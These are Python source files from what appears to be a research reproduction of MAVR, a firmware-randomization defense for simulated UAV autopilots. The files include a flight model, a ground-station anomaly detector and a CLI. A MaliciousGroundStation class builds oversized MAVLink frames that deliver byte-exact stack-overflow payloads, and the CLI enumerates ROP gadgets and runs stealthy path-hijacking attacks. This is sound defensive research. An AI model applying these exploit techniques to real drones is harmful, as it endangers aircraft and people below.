@dataclass
class SensorState:
    """Physical quantities the devices report (raw sensor units)."""

    gyro: Dict[str, float] = field(default_factory=lambda: {"x": 0.0, "y": 0.0, "z": 0.0})
    accel: Dict[str, float] = field(default_factory=lambda: {"x": 0.0, "y": 0.0, "z": 1000.0})
    baro: float = 10_000.0
    mag: float = 0.0


class SensorSuite:
    """Installs data-space read hooks exposing :class:`SensorState`."""

    def __init__(self, cpu: AvrCpu, state: SensorState = None) -> None:
        self.state = state if state is not None else SensorState()
        self._register_pair(cpu, GYRO_X_REG, lambda: self.state.gyro["x"])
        self._register_pair(cpu, GYRO_Y_REG, lambda: self.state.gyro["y"])
        self._register_pair(cpu, GYRO_Z_REG, lambda: self.state.gyro["z"])
        self._register_pair(cpu, ACCEL_X_REG, lambda: self.state.accel["x"])
        self._register_pair(cpu, ACCEL_Y_REG, lambda: self.state.accel["y"])
        self._register_pair(cpu, ACCEL_Z_REG, lambda: self.state.accel["z"])
        self._register_pair(cpu, BARO_REG, lambda: self.state.baro)
        self._register_pair(cpu, MAG_REG, lambda: self.state.mag)

    @staticmethod
    def _register_pair(cpu: AvrCpu, base: int, getter) -> None:
        cpu.data.add_read_hook(base, lambda _addr: _to_int16(getter()) & 0xFF)
        cpu.data.add_read_hook(base + 1, lambda _addr: (_to_int16(getter()) >> 8) & 0xFF)

    def set_gyro(self, x: float, y: float, z: float) -> None:
        self.state.gyro.update(x=x, y=y, z=z)

    def set_accel(self, x: float, y: float, z: float) -> None:
        self.state.accel.update(x=x, y=y, z=z)
