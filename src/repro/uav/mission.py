"""Mission/waypoint bookkeeping and navigation-deviation metrics.

The paper's headline attack goal is to "modify the UAV navigation path"
without the ground station noticing.  This module gives experiments a way
to quantify that: fly a mission with clean firmware to get the reference
track, fly it again under attack, and measure the divergence.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import List, Optional, Tuple


@dataclass(frozen=True)
class Waypoint:
    x: float
    y: float
    radius: float = 25.0

    def reached_by(self, x: float, y: float) -> bool:
        return math.hypot(self.x - x, self.y - y) <= self.radius


@dataclass
class Mission:
    """An ordered list of waypoints plus progress tracking."""

    waypoints: List[Waypoint] = field(default_factory=list)
    current_index: int = 0

    @property
    def complete(self) -> bool:
        return self.current_index >= len(self.waypoints)

    @property
    def current(self) -> Optional[Waypoint]:
        if self.complete:
            return None
        return self.waypoints[self.current_index]

    def update(self, x: float, y: float) -> bool:
        """Advance progress; returns True when a waypoint was just reached."""
        target = self.current
        if target is not None and target.reached_by(x, y):
            self.current_index += 1
            return True
        return False


def track_deviation(
    reference: List[Tuple[float, float]], actual: List[Tuple[float, float]]
) -> dict:
    """Pointwise deviation statistics between two flight tracks."""
    n = min(len(reference), len(actual))
    if n == 0:
        return {"mean": 0.0, "max": 0.0, "final": 0.0, "points": 0}
    distances = [
        math.hypot(x1 - x2, y1 - y2)
        for (x1, y1), (x2, y2) in zip(reference[:n], actual[:n])
    ]
    return {
        "mean": sum(distances) / n,
        "max": max(distances),
        "final": distances[-1],
        "points": n,
    }
