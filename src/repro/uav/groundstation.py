"""Ground stations: the legitimate monitor and the attacker's.

The paper's stealthiness criterion is *what the ground station can see*: a
V1 attack smashes the stack, telemetry degenerates or stops, and the
operator notices; a V2/V3 attack returns cleanly and the stream never
misses a beat.  :class:`GroundStation` implements exactly that monitor —
frame-rate accounting plus structural validation of every telemetry frame.

:class:`MaliciousGroundStation` is the compromised/attacker-built station
of Fig. 3: same link, but it can emit raw (oversized) MAVLink frames.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..firmware.hwmap import (
    TELEMETRY_FRAME_LENGTH,
    TELEMETRY_MARKER,
    TELEMETRY_TRAILER,
)
from ..mavlink.messages import MessageDef
from ..mavlink.packet import Packet, build


@dataclass(frozen=True)
class TelemetryFrame:
    """One decoded downlink frame (gyro x/y/z as signed 16-bit)."""

    gyro_x: int
    gyro_y: int
    gyro_z: int


def _signed16(low: int, high: int) -> int:
    value = low | (high << 8)
    return value - 0x10000 if value & 0x8000 else value


@dataclass
class LinkHealth:
    """What the operator's screen shows."""

    frames_received: int = 0
    malformed_bytes: int = 0
    silent_polls: int = 0
    consecutive_silent_polls: int = 0


class GroundStation:
    """Legitimate GCS: parses telemetry, raises an alarm on link anomalies."""

    # polls with no valid frame before the operator declares the link lost
    SILENCE_ALARM_THRESHOLD = 5

    def __init__(self) -> None:
        self.health = LinkHealth()
        self.frames: List[TelemetryFrame] = []
        self._pending = bytearray()
        self._seq = 0

    # -- downlink ----------------------------------------------------------

    def ingest(self, data: bytes) -> List[TelemetryFrame]:
        """Consume downlink bytes; returns frames completed by this poll."""
        self._pending.extend(data)
        new_frames: List[TelemetryFrame] = []
        while True:
            frame = self._extract_frame()
            if frame is None:
                break
            new_frames.append(frame)
        if new_frames:
            self.health.frames_received += len(new_frames)
            self.health.consecutive_silent_polls = 0
            self.frames.extend(new_frames)
        else:
            self.health.silent_polls += 1
            self.health.consecutive_silent_polls += 1
        return new_frames

    def _extract_frame(self) -> Optional[TelemetryFrame]:
        # resync to the marker
        while self._pending and self._pending[0] != TELEMETRY_MARKER:
            self._pending.pop(0)
            self.health.malformed_bytes += 1
        if len(self._pending) < TELEMETRY_FRAME_LENGTH:
            return None
        raw = bytes(self._pending[:TELEMETRY_FRAME_LENGTH])
        if raw[-1] != TELEMETRY_TRAILER:
            # broken frame: skip the marker and resync
            self._pending.pop(0)
            self.health.malformed_bytes += 1
            return self._extract_frame()
        del self._pending[:TELEMETRY_FRAME_LENGTH]
        return TelemetryFrame(
            gyro_x=_signed16(raw[1], raw[2]),
            gyro_y=_signed16(raw[3], raw[4]),
            gyro_z=_signed16(raw[5], raw[6]),
        )

    # -- operator view -------------------------------------------------------

    @property
    def link_lost(self) -> bool:
        """The alarm the paper's attacks must avoid tripping."""
        return (
            self.health.consecutive_silent_polls >= self.SILENCE_ALARM_THRESHOLD
        )

    @property
    def last_frame(self) -> Optional[TelemetryFrame]:
        return self.frames[-1] if self.frames else None

    # -- uplink ----------------------------------------------------------

    def next_seq(self) -> int:
        seq = self._seq
        self._seq = (self._seq + 1) & 0xFF
        return seq

    def command(self, definition: MessageDef, **values) -> bytes:
        """Serialize a legitimate MAVLink command frame."""
        return build(definition, seq=self.next_seq(), sysid=255, **values).to_bytes()


class MaliciousGroundStation(GroundStation):
    """Attacker-controlled station (paper Fig. 3): sends raw exploit bytes."""

    def exploit_frame(self, msgid: int, payload: bytes) -> bytes:
        """Wrap an arbitrary-length payload in MAVLink framing.

        The receiver's length check is the disabled one, so the frame's
        length byte does not constrain the payload.
        """
        packet = Packet(
            seq=self.next_seq(), sysid=255, compid=0, msgid=msgid,
            payload=payload,
        )
        return packet.to_bytes_oversized()

    def exploit_burst(self, msgid: int, attack_bytes: bytes) -> bytes:
        """A MAVLink-headed burst with byte-exact attacker control.

        The vulnerable receiver copies every arriving byte, so the attack
        string must land at exact stack offsets; the trailing checksum a
        legal frame would carry is deliberately omitted (nothing on the
        victim checks it before the overflow happens).
        """
        header = bytes([
            0xFE,  # MAGIC
            min(len(attack_bytes), 255),
            self.next_seq(), 255, 0, msgid,
        ])
        return header + attack_bytes
