"""Ground stations: the legitimate monitor and the attacker's.

The paper's stealthiness criterion is *what the ground station can see*: a
V1 attack smashes the stack, telemetry degenerates or stops, and the
operator notices; a V2/V3 attack returns cleanly and the stream never
misses a beat.  :class:`GroundStation` implements exactly that monitor —
frame-rate accounting plus structural validation of every telemetry frame.

:class:`MaliciousGroundStation` is the compromised/attacker-built station
of Fig. 3: same link, but it can emit raw (oversized) MAVLink frames.

:class:`GcsAnomalyDetector` is the protocol-tier counterpart: a stateful
monitor of the *MAVLink* side of the link (the custom 0xA5 telemetry
framing above is a separate downlink) that flags sequence gaps, CRC
failures, frame-rate bursts and geofence/teleport deviations — the four
signals the ``repro.mavlink.attacks`` kinds are scored against.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..firmware.hwmap import (
    TELEMETRY_FRAME_LENGTH,
    TELEMETRY_MARKER,
    TELEMETRY_TRAILER,
)
from ..mavlink.messages import GLOBAL_POSITION_INT, MessageDef
from ..mavlink.packet import Packet, build
from ..mavlink.parser import StreamParser


@dataclass(frozen=True)
class TelemetryFrame:
    """One decoded downlink frame (gyro x/y/z as signed 16-bit)."""

    gyro_x: int
    gyro_y: int
    gyro_z: int


def _signed16(low: int, high: int) -> int:
    value = low | (high << 8)
    return value - 0x10000 if value & 0x8000 else value


@dataclass
class LinkHealth:
    """What the operator's screen shows."""

    frames_received: int = 0
    malformed_bytes: int = 0
    silent_polls: int = 0
    consecutive_silent_polls: int = 0


class GroundStation:
    """Legitimate GCS: parses telemetry, raises an alarm on link anomalies."""

    # polls with no valid frame before the operator declares the link lost
    SILENCE_ALARM_THRESHOLD = 5

    def __init__(self) -> None:
        self.health = LinkHealth()
        self.frames: List[TelemetryFrame] = []
        self._pending = bytearray()
        self._seq = 0

    # -- downlink ----------------------------------------------------------

    def ingest(self, data: bytes) -> List[TelemetryFrame]:
        """Consume downlink bytes; returns frames completed by this poll."""
        self._pending.extend(data)
        new_frames: List[TelemetryFrame] = []
        while True:
            frame = self._extract_frame()
            if frame is None:
                break
            new_frames.append(frame)
        if new_frames:
            self.health.frames_received += len(new_frames)
            self.health.consecutive_silent_polls = 0
            self.frames.extend(new_frames)
        else:
            self.health.silent_polls += 1
            self.health.consecutive_silent_polls += 1
        return new_frames

    def _extract_frame(self) -> Optional[TelemetryFrame]:
        # resync to the marker
        while self._pending and self._pending[0] != TELEMETRY_MARKER:
            self._pending.pop(0)
            self.health.malformed_bytes += 1
        if len(self._pending) < TELEMETRY_FRAME_LENGTH:
            return None
        raw = bytes(self._pending[:TELEMETRY_FRAME_LENGTH])
        if raw[-1] != TELEMETRY_TRAILER:
            # broken frame: skip the marker and resync
            self._pending.pop(0)
            self.health.malformed_bytes += 1
            return self._extract_frame()
        del self._pending[:TELEMETRY_FRAME_LENGTH]
        return TelemetryFrame(
            gyro_x=_signed16(raw[1], raw[2]),
            gyro_y=_signed16(raw[3], raw[4]),
            gyro_z=_signed16(raw[5], raw[6]),
        )

    # -- operator view -------------------------------------------------------

    @property
    def link_lost(self) -> bool:
        """The alarm the paper's attacks must avoid tripping."""
        return (
            self.health.consecutive_silent_polls >= self.SILENCE_ALARM_THRESHOLD
        )

    @property
    def last_frame(self) -> Optional[TelemetryFrame]:
        return self.frames[-1] if self.frames else None

    # -- uplink ----------------------------------------------------------

    def next_seq(self) -> int:
        seq = self._seq
        self._seq = (self._seq + 1) & 0xFF
        return seq

    def command(self, definition: MessageDef, **values) -> bytes:
        """Serialize a legitimate MAVLink command frame."""
        return build(definition, seq=self.next_seq(), sysid=255, **values).to_bytes()


#: anomaly kinds the detector can flag (the registry's
#: ``expected_anomalies`` tuples draw from this set)
ANOMALY_KINDS = ("seq_gap", "crc_fail", "rate", "geofence")

#: GLOBAL_POSITION_INT lat/lon wire units per metre (planar sim: the
#: flight model's y goes on ``lat``, x on ``lon``, both in centimetres)
POSITION_UNITS_PER_M = 100


class GcsAnomalyDetector:
    """Stateful MAVLink-stream monitor on the ground-station side.

    The detector taps the raw bytes of both link directions through its
    own correct (length-checking) :class:`~repro.mavlink.parser.
    StreamParser` instances and keeps per-stream state:

    * **seq_gap** — per ``(direction, sysid, compid)`` sequence counter;
      any step other than +1 mod 256 after the first frame is a gap
      (replayed frames re-use old numbers, forged frames come from an
      attacker counter that cannot stay in phase).
    * **crc_fail** — the parser's ``frames_bad_crc`` delta per observe
      call (flood traffic mixes deliberately corrupt frames in).
    * **rate** — total frames per :attr:`RATE_WINDOW_TICKS` tick window
      against :attr:`rate_limit` (flood/DoS), flagged once per window.
    * **geofence** — claimed GLOBAL_POSITION_INT positions per sysid:
      leaving the :attr:`GEOFENCE_RADIUS_M` circle around home, or an
      implied speed over :attr:`MAX_SPEED_M_PER_TICK` between
      consecutive claims (teleport), is a deviation.  The detector never
      sees ground truth — only what the stream claims.

    Every flag lands in deterministic counters (and, with a telemetry
    handle, as a ``gcs.anomaly`` event), so detector verdicts can ride
    byte-identical campaign records.
    """

    GEOFENCE_RADIUS_M = 500.0
    MAX_SPEED_M_PER_TICK = 1.5
    RATE_WINDOW_TICKS = 10
    RATE_LIMIT_PER_WINDOW = 15
    #: anomaly instances kept with full detail (counters are unbounded)
    EVENT_LIMIT = 64

    def __init__(
        self, rate_limit: Optional[int] = None, telemetry=None
    ) -> None:
        self.rate_limit = (
            rate_limit if rate_limit is not None
            else self.RATE_LIMIT_PER_WINDOW
        )
        self.telemetry = telemetry
        self._parsers: Dict[str, StreamParser] = {}
        self._bad_crc_seen: Dict[str, int] = {}
        self._last_seq: Dict[Tuple[str, int, int], int] = {}
        self._claimed: Dict[int, Tuple[int, float, float]] = {}
        self._geofenced: set = set()  # sysids already flagged out-of-fence
        self._tick = 0
        self._window_start = 0
        self._window_frames = 0
        self._window_flagged = False
        self.frames_seen = 0
        self.anomaly_counts: Dict[str, int] = {}
        self.anomalies: List[dict] = []
        self.first_anomaly_tick: Optional[int] = None

    # -- stream input -----------------------------------------------------

    def begin_tick(self, tick: int) -> None:
        """Advance the detector clock (rolls the rate window)."""
        self._tick = tick
        if tick - self._window_start >= self.RATE_WINDOW_TICKS:
            self._window_start = tick
            self._window_frames = 0
            self._window_flagged = False

    def observe(self, direction: str, data: bytes) -> List[Packet]:
        """Tap one direction's raw bytes; returns the parsed packets."""
        if not data:
            return []
        parser = self._parsers.get(direction)
        if parser is None:
            parser = self._parsers[direction] = StreamParser(length_check=True)
            self._bad_crc_seen[direction] = 0
        packets = parser.push(data)
        bad = parser.stats.frames_bad_crc - self._bad_crc_seen[direction]
        if bad:
            self._bad_crc_seen[direction] = parser.stats.frames_bad_crc
            self._flag("crc_fail", direction=direction, frames=bad)
        self._window_frames += len(packets) + bad
        self.frames_seen += len(packets)
        for packet in packets:
            self._check_sequence(direction, packet)
            if packet.msgid == GLOBAL_POSITION_INT.msg_id:
                self._check_position(packet)
        if (
            self._window_frames > self.rate_limit
            and not self._window_flagged
        ):
            self._window_flagged = True
            self._flag("rate", frames=self._window_frames)
        return packets

    # -- checks -----------------------------------------------------------

    def _check_sequence(self, direction: str, packet: Packet) -> None:
        key = (direction, packet.sysid, packet.compid)
        last = self._last_seq.get(key)
        self._last_seq[key] = packet.seq
        if last is None:
            return
        if packet.seq != (last + 1) & 0xFF:
            self._flag(
                "seq_gap", direction=direction, sysid=packet.sysid,
                expected=(last + 1) & 0xFF, got=packet.seq,
            )

    def _check_position(self, packet: Packet) -> None:
        values = packet.decode()
        x = values["lon"] / POSITION_UNITS_PER_M
        y = values["lat"] / POSITION_UNITS_PER_M
        sysid = packet.sysid
        previous = self._claimed.get(sysid)
        self._claimed[sysid] = (self._tick, x, y)
        if (
            math.hypot(x, y) > self.GEOFENCE_RADIUS_M
            and sysid not in self._geofenced
        ):
            self._geofenced.add(sysid)
            self._flag("geofence", sysid=sysid, reason="outside_fence")
        if previous is None:
            return
        last_tick, last_x, last_y = previous
        ticks = max(self._tick - last_tick, 1)
        speed = math.hypot(x - last_x, y - last_y) / ticks
        if speed > self.MAX_SPEED_M_PER_TICK:
            self._flag(
                "geofence", sysid=sysid, reason="teleport",
                speed=round(speed, 3),
            )

    def _flag(self, kind: str, **detail) -> None:
        self.anomaly_counts[kind] = self.anomaly_counts.get(kind, 0) + 1
        if self.first_anomaly_tick is None:
            self.first_anomaly_tick = self._tick
        if len(self.anomalies) < self.EVENT_LIMIT:
            self.anomalies.append({"kind": kind, "tick": self._tick, **detail})
        if self.telemetry is not None:
            self.telemetry.emit("gcs.anomaly", kind=kind, tick=self._tick, **detail)
            self.telemetry.counter(
                "gcs.anomalies", component="gcs", kind=kind
            ).inc()

    # -- verdicts ---------------------------------------------------------

    @property
    def total_anomalies(self) -> int:
        return sum(self.anomaly_counts.values())

    def flagged_kinds(self) -> Tuple[str, ...]:
        """Anomaly kinds seen at least once, in canonical order."""
        return tuple(k for k in ANOMALY_KINDS if self.anomaly_counts.get(k))

    def snapshot(self) -> dict:
        """Deterministic JSON-ready verdict for campaign records."""
        return {
            "frames": self.frames_seen,
            "anomalies": {
                kind: self.anomaly_counts[kind]
                for kind in ANOMALY_KINDS
                if kind in self.anomaly_counts
            },
            "first_anomaly_tick": self.first_anomaly_tick,
        }


class MaliciousGroundStation(GroundStation):
    """Attacker-controlled station (paper Fig. 3): sends raw exploit bytes."""

    def exploit_frame(self, msgid: int, payload: bytes) -> bytes:
        """Wrap an arbitrary-length payload in MAVLink framing.

        The receiver's length check is the disabled one, so the frame's
        length byte does not constrain the payload.
        """
        packet = Packet(
            seq=self.next_seq(), sysid=255, compid=0, msgid=msgid,
            payload=payload,
        )
        return packet.to_bytes_oversized()

    def exploit_burst(self, msgid: int, attack_bytes: bytes) -> bytes:
        """A MAVLink-headed burst with byte-exact attacker control.

        The vulnerable receiver copies every arriving byte, so the attack
        string must land at exact stack offsets; the trailing checksum a
        legal frame would carry is deliberately omitted (nothing on the
        victim checks it before the overflow happens).
        """
        header = bytes([
            0xFE,  # MAGIC
            min(len(attack_bytes), 255),
            self.next_seq(), 255, 0, msgid,
        ])
        return header + attack_bytes
