"""The simulated UAV: firmware + core + peripherals + flight dynamics.

:class:`Autopilot` is the harness every experiment drives: it owns the AVR
core running a built firmware image, the USART the ground station talks
through, the watchdog feed line the MAVR master monitors, the sensor suite
and the flight model.  A *tick* is one control period: run a slice of
firmware, then integrate the airframe.

Crash semantics follow the paper: when the core walks into garbage
(undecodable opcode, out-of-image PC, bad memory access) the autopilot
enters ``CRASHED`` — control surfaces freeze, telemetry stops, the feed
line goes quiet, and only a reset (reflash) recovers it.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Optional

from ..avr.cpu import AvrCpu
from ..avr.devices import EepromController, FeedLine, Usart
from ..avr.engine import DEFAULT_ENGINE
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import DATA_SPACE_FLAG
from ..errors import AvrError
from ..firmware.hwmap import SERVO_PORT_IO
from .flight import FlightModel
from .sensors import SensorState, SensorSuite


class AutopilotStatus(Enum):
    RUNNING = "running"
    CRASHED = "crashed"
    HALTED = "halted"


@dataclass
class CrashInfo:
    """Why and where the firmware died."""

    reason: str
    pc_bytes: int
    cycle: int


class Autopilot:
    """One UAV control unit executing a firmware image."""

    def __init__(
        self,
        image: FirmwareImage,
        sensor_state: Optional[SensorState] = None,
        instructions_per_tick: int = 4000,
        engine: str = DEFAULT_ENGINE,
    ) -> None:
        self.image = image
        self.instructions_per_tick = instructions_per_tick
        # ``engine`` selects the CPU execution engine; the default
        # predecoded engine makes large attack/defense sweeps fast, the
        # "interpreter" reference exists for differential testing.
        self.cpu = AvrCpu(engine=engine)
        self.usart = Usart(self.cpu)
        self.feed = FeedLine(self.cpu)
        self.eeprom_ctl = EepromController(self.cpu)
        self.sensors = SensorSuite(self.cpu, sensor_state)
        self.flight = FlightModel(self.sensors)
        self.status = AutopilotStatus.RUNNING
        self.crash: Optional[CrashInfo] = None
        self.ticks = 0
        # host-side debug view: SRAM variable addresses survive reflashing
        # with randomized images (randomization never moves data), even
        # when the new image's own symbol table is the master's nameless
        # from-flash reconstruction
        self.debug_symbols = image.symbols
        self.cpu.load_program(image.code)
        self.cpu.reset()

    # -- lifecycle --------------------------------------------------------

    def reflash(self, image: FirmwareImage) -> None:
        """Program a new image and reset (what the MAVR master does).

        Both the erase and the load bump the flash generation counter, so
        the CPU's predecoded engine can never execute decodes cached from
        the pre-randomization image (the stale-decode regression test
        pins this down).
        """
        self.image = image
        self.cpu.flash.erase()
        self.cpu.load_program(image.code)
        self.cpu.reset()
        self.feed.clear()
        self.status = AutopilotStatus.RUNNING
        self.crash = None

    def adopt_image(self, image: FirmwareImage) -> None:
        """Reset onto an image the ISP link already programmed into flash.

        The MAVR master streams the randomized binary straight into
        ``cpu.flash`` through :class:`~repro.hw.isp.IspProgrammer` (which
        may have written only the changed pages); this just updates the
        host-side view and pulses reset.  Erasing + reloading here would
        destroy the differential programmer's page accounting — use
        :meth:`reflash` only when bypassing the ISP path entirely.
        """
        self.image = image
        self.cpu.code_limit = len(image.code)  # what load_program would set
        self.cpu.reset()
        self.feed.clear()
        self.status = AutopilotStatus.RUNNING
        self.crash = None

    def reset(self) -> None:
        """Pulse the reset line without reprogramming."""
        self.cpu.reset()
        self.feed.clear()
        self.status = AutopilotStatus.RUNNING
        self.crash = None

    # -- execution --------------------------------------------------------

    def tick(self, instructions: Optional[int] = None) -> AutopilotStatus:
        """One control period: firmware slice + airframe integration."""
        budget = instructions if instructions is not None else self.instructions_per_tick
        self.ticks += 1
        if self.status is AutopilotStatus.RUNNING:
            try:
                self.cpu.run(budget)
                if self.cpu.halted:
                    self.status = AutopilotStatus.HALTED
            except AvrError as exc:
                self.status = AutopilotStatus.CRASHED
                self.crash = CrashInfo(
                    reason=str(exc), pc_bytes=self.cpu.pc_bytes,
                    cycle=self.cpu.cycles,
                )
        # the airframe keeps flying either way; a crashed core freezes the
        # last servo command
        self.flight.step(self.servo_command)
        return self.status

    def run_ticks(self, count: int) -> AutopilotStatus:
        for _ in range(count):
            self.tick()
        return self.status

    @property
    def servo_command(self) -> int:
        return self.cpu.data.read_io(SERVO_PORT_IO)

    # -- ground-station-facing I/O -----------------------------------------

    def receive_bytes(self, data: bytes) -> None:
        """Bytes arriving on the telemetry/USB serial port."""
        self.usart.feed_bytes(data)

    def transmitted_bytes(self) -> bytes:
        """Drain everything the firmware sent since the last call."""
        return self.usart.take_tx()

    # -- memory access helpers (simulation/debug side) ----------------------

    def variable_address(self, name: str) -> int:
        symbol = self.debug_symbols.get(name)
        if symbol.address < DATA_SPACE_FLAG:
            raise ValueError(f"{name} is not an SRAM variable")
        return symbol.address - DATA_SPACE_FLAG

    def read_variable(self, name: str, size: Optional[int] = None) -> int:
        """Read an SRAM variable as a little-endian unsigned integer."""
        symbol = self.debug_symbols.get(name)
        length = size if size is not None else min(symbol.size, 8)
        raw = self.cpu.data.read_block(self.variable_address(name), length)
        return int.from_bytes(raw, "little")

    def write_variable(self, name: str, value: int, size: Optional[int] = None) -> None:
        symbol = self.debug_symbols.get(name)
        length = size if size is not None else min(symbol.size, 8)
        self.cpu.data.write_block(
            self.variable_address(name), value.to_bytes(length, "little")
        )
