"""Kinematic flight model.

A deliberately simple closed loop sufficient to show the paper's point —
that silently corrupting the gyro calibration steers the vehicle off its
path while the telemetry stream keeps flowing:

* the firmware's P-controller writes an elevator/aileron command byte to
  the servo port;
* the flight model integrates that command into a roll rate and heading;
* the roll rate feeds back into the gyro device registers the firmware
  samples on the next loop.
"""

from __future__ import annotations

import math
from dataclasses import dataclass, field
from typing import List, Tuple

from .sensors import SensorSuite

SERVO_NEUTRAL = 0x80
GYRO_UNITS_PER_DEG_S = 16.0  # raw sensor counts per deg/s


@dataclass
class FlightState:
    """Planar vehicle state: position, heading, roll."""

    x: float = 0.0
    y: float = 0.0
    heading_deg: float = 0.0  # 0 = north, clockwise positive
    roll_deg: float = 0.0
    roll_rate_dps: float = 0.0
    airspeed: float = 20.0  # m/s


class FlightModel:
    """Integrates servo commands into vehicle motion and sensor readings."""

    def __init__(self, sensors: SensorSuite, dt: float = 0.02) -> None:
        self.sensors = sensors
        self.dt = dt
        self.state = FlightState()
        self.track: List[Tuple[float, float]] = [(0.0, 0.0)]

    def step(self, servo_command: int) -> None:
        """Advance one control period given the firmware's servo byte."""
        state = self.state
        # servo deflection (signed) -> roll rate demand
        deflection = servo_command - SERVO_NEUTRAL
        state.roll_rate_dps = deflection * 0.8
        state.roll_deg += state.roll_rate_dps * self.dt
        state.roll_deg = max(-60.0, min(60.0, state.roll_deg))
        # coordinated turn: heading rate proportional to roll angle
        state.heading_deg += state.roll_deg * 0.5 * self.dt
        heading_rad = math.radians(state.heading_deg)
        state.x += math.sin(heading_rad) * state.airspeed * self.dt
        state.y += math.cos(heading_rad) * state.airspeed * self.dt
        self.track.append((state.x, state.y))
        # feed the gyro device with the achieved roll rate
        self.sensors.set_gyro(
            x=state.roll_rate_dps * GYRO_UNITS_PER_DEG_S, y=0.0, z=0.0
        )

    def distance_from(self, other_track: List[Tuple[float, float]]) -> float:
        """Mean planar deviation between this track and another."""
        n = min(len(self.track), len(other_track))
        if n == 0:
            return 0.0
        total = 0.0
        for (x1, y1), (x2, y2) in zip(self.track[:n], other_track[:n]):
            total += math.hypot(x1 - x2, y1 - y2)
        return total / n
