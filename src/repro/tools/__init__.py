"""Command-line tools for the MAVR reproduction."""

from .cli import build_parser, main

__all__ = ["build_parser", "main"]
