"""Entry point: ``python -m repro.tools``."""

from .cli import main

if __name__ == "__main__":
    raise SystemExit(main())
