"""Command-line interface: ``python -m repro.tools <command>``.

Commands mirror the workflows a user of the original system would have:

* ``build``    — build an application, optionally writing the MAVR
  preprocessed HEX (what goes onto the external flash).
* ``info``     — image statistics (sizes, regions, symbols).
* ``disasm``   — disassemble an application or one function.
* ``gadgets``  — gadget inventory with Fig. 4/5-style listings.
* ``attack``   — run V1/V2/V3 against a simulated unprotected board.
* ``defend``   — run a guessing campaign against a MAVR-protected board.
"""

from __future__ import annotations

import argparse
import sys
from typing import List, Optional

from ..analysis import format_table, guessing_campaign
from ..asm import disassemble_image
from ..asm.linker import MAVR_OPTIONS, STOCK_OPTIONS
from ..attack import BasicAttack, GadgetFinder, StealthyAttack, TrampolineAttack
from ..firmware import build_app, manifest_by_name
from ..uav import Autopilot

_TOOLCHAINS = {"stock": STOCK_OPTIONS, "mavr": MAVR_OPTIONS}


def _add_app_argument(parser: argparse.ArgumentParser) -> None:
    parser.add_argument(
        "app",
        choices=("testapp", "arduplane", "arducopter", "ardurover"),
        help="application to operate on",
    )
    parser.add_argument(
        "--toolchain", choices=tuple(_TOOLCHAINS), default="mavr",
        help="toolchain flag set (default: mavr, the randomizable build)",
    )


def _load(args: argparse.Namespace):
    return build_app(manifest_by_name(args.app), _TOOLCHAINS[args.toolchain])


def _cmd_build(args: argparse.Namespace) -> int:
    image = _load(args)
    print(f"built {image.name}: {image.size} bytes, "
          f"{image.function_count()} functions [{image.toolchain_tag}]")
    if args.out:
        from ..core import preprocess

        hex_text = preprocess(image)
        with open(args.out, "w", encoding="ascii") as handle:
            handle.write(hex_text)
        print(f"wrote preprocessed HEX to {args.out} ({len(hex_text)} bytes)")
    return 0


def _cmd_info(args: argparse.Namespace) -> int:
    image = _load(args)
    rows = [
        ("name", image.name),
        ("toolchain", image.toolchain_tag),
        ("total size", f"{image.size} B"),
        ("fixed region", f"0x00000-0x{image.text_start:05x}"),
        (".text", f"0x{image.text_start:05x}-0x{image.text_end:05x} "
                  f"({image.text_end - image.text_start} B)"),
        (".data", f"0x{image.data_start:05x}-0x{image.data_end:05x} "
                  f"({image.data_end - image.data_start} B)"),
        ("functions", str(image.function_count())),
        ("funcptr slots", str(len(image.funcptr_locations))),
        ("entry", image.entry_symbol),
    ]
    print(format_table(("property", "value"), rows))
    return 0


def _cmd_disasm(args: argparse.Namespace) -> int:
    image = _load(args)
    print(disassemble_image(image, args.function))
    return 0


def _cmd_gadgets(args: argparse.Namespace) -> int:
    from ..asm import disassemble

    image = _load(args)
    finder = GadgetFinder(image)
    print(f"{finder.count()} gadgets ending in ret\n")
    stk = finder.find_stk_move()
    print(f"stk_move at 0x{stk.entry:05x} (pops {stk.pop_regs}):")
    print("\n".join(disassemble(image.code, stk.entry, stk.entry + 14)))
    wm = finder.find_write_mem()
    print(f"\nwrite_mem_gadget: std half 0x{wm.std_entry:05x}, "
          f"pop half 0x{wm.pop_entry:05x}, {wm.pop_bytes} pops:")
    print("\n".join(disassemble(image.code, wm.std_entry, wm.pop_entry + 8)))
    return 0


def _cmd_attack(args: argparse.Namespace) -> int:
    image = _load(args)
    if args.toolchain != "mavr":
        print("note: attacks are normally demonstrated on the mavr build",
              file=sys.stderr)
    autopilot = Autopilot(image)
    attack = {
        "v1": lambda: BasicAttack(image).execute(autopilot),
        "v2": lambda: StealthyAttack(image).execute(autopilot),
        "v3": lambda: TrampolineAttack(image).execute(autopilot),
    }[args.variant]
    outcome = attack()
    rows = [
        ("attack", outcome.name),
        ("bytes delivered", str(outcome.delivered_bytes)),
        ("write landed", str(outcome.succeeded)),
        ("board status", outcome.status.value),
        ("telemetry after", f"{outcome.telemetry_frames_after} frames"),
        ("ground station alarm", str(outcome.link_lost)),
        ("verdict", "STEALTHY" if outcome.stealthy else "DETECTED/FAILED"),
    ]
    print(format_table(("field", "value"), rows))
    return 0 if outcome.succeeded else 1


def _cmd_defend(args: argparse.Namespace) -> int:
    image = _load(args)
    result = guessing_campaign(image, attempts=args.attempts, seed=args.seed)
    rows = [
        ("attempts", str(result.attempts)),
        ("exploit effects", str(result.effects)),
        ("detections", str(result.detections)),
        ("layouts consumed", str(result.randomizations_consumed)),
        ("UAV still flying", str(result.still_flying)),
    ]
    print(format_table(("field", "value"), rows,
                       title="guessing campaign vs MAVR"))
    return 0 if result.effects == 0 else 1


def _cmd_report(args: argparse.Namespace) -> int:
    """Paper-vs-measured summary (Tables I-III need --full)."""
    import math

    from ..analysis import entropy_report, estimate_for
    from ..hw import CostModel, PROTOTYPE_LINK
    from ..firmware import (
        ALL_APPS,
        PAPER_FUNCTION_COUNTS,
        PAPER_MAVR_SIZES,
        PAPER_STARTUP_MS,
        PAPER_STOCK_SIZES,
    )

    lines = ["# MAVR reproduction report", ""]

    if args.full:
        from ..core import MavrSystem

        lines.append("## Table I/II/III (measured)")
        rows = []
        for manifest in ALL_APPS:
            stock = build_app(manifest, STOCK_OPTIONS)
            mavr = build_app(manifest, MAVR_OPTIONS)
